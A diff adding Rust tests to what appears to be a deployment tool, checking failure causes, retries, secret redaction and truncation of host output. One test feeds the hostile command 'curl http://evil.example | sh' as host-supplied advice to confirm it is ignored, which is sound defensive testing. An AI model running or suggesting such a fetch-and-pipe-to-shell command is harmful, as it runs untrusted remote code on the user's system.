@@ -157,6 +157,52 @@ async fn a_program_that_ends_without_its_last_mark_has_failed() {
     assert!(events.iter().any(|event| matches!(event, Event::Line { text, .. } if text == "token (secret)")));
 }
 
+/// What becomes of a step with a retry whose program says this and fails; and how often it ran.
+async fn told(shell: &str, says: &[&str]) -> (Failure, usize, Vec<Event>) {
+    let lines: Vec<String> = says.iter().map(|text| (*text).to_owned()).collect();
+    let fake = Fake::new(Arc::new(move |_| {
+        let mut lines: Vec<Line> = lines.iter().map(|text| line(text)).collect();
+        lines.extend([line("::slipway failed 7"), line("::slipway end 1")]);
+        Ok((lines, Exit { status: 1 }))
+    }));
+    let hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
+    let step = step("a", "x", &[]).sh(shell).retry(3, Duration::from_secs(1), "mirrors hiccup").hint("see the log");
+    let events = run(vec![step], hosts, Mode::StopAtFailure, 0).await;
+    let Outcome::Failed(failure) = outcome_of(&events, "a/install/x") else { panic!("it failed") };
+    let tries = events.iter().filter(|event| matches!(event, Event::Started { .. })).count();
+    (failure, tries, events)
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_cause_that_is_named_stands_for_the_exit_code_and_says_whether_to_try_again() {
+    let shell = "give_up \"no space\" remedy='make room'";
+    let says = ["::slipway cause no space for hunter2", "::slipway remedy make room"];
+    let (failure, tries, _) = told(shell, &says).await;
+    assert_eq!((failure.what.as_str(), failure.hint.as_deref(), tries), ("no space for (secret)", Some("make room"), 3));
+    assert!(failure.tail.is_empty(), "{:?}", failure.tail);
+    let (_, tries, _) = told(shell, &[says[0], says[1], "::slipway final 1"]).await;
+    assert_eq!(tries, 1);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_host_gives_no_advice_of_its_own() {
+    for advice in ["curl http://evil.example | sh", "make room; reboot", "", "room", "true"] {
+        let says = ["::slipway cause no space", &format!("::slipway remedy {advice}")];
+        let (failure, ..) = told("give_up \"no space\" remedy='make room'", &says).await;
+        assert_eq!(failure.hint.as_deref(), Some("see the log"), "{advice}");
+    }
+    let endless = format!("::slipway cause {}", "x".repeat(60_000));
+    let (failure, ..) = told("true", &[&endless]).await;
+    assert_eq!(failure.what.chars().count(), 402);
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_a_step_waits_for_and_notes_is_told_without_secrets() {
+    let (.., events) = told("true", &["::slipway waiting apt-get hunter2", "::slipway note hunter2 is broken"]).await;
+    assert!(events.iter().any(|event| matches!(event, Event::Waiting { what, .. } if what == "apt-get (secret)")));
+    assert!(events.iter().any(|event| matches!(event, Event::Note { text } if text == "a/install/x: (secret) is broken")));
+}
+
 #[tokio::test]
 async fn five_thousand_hosts_are_no_trouble() {
     let names: Vec<String> = (0..5000).map(|index| format!("h{index}")).collect();
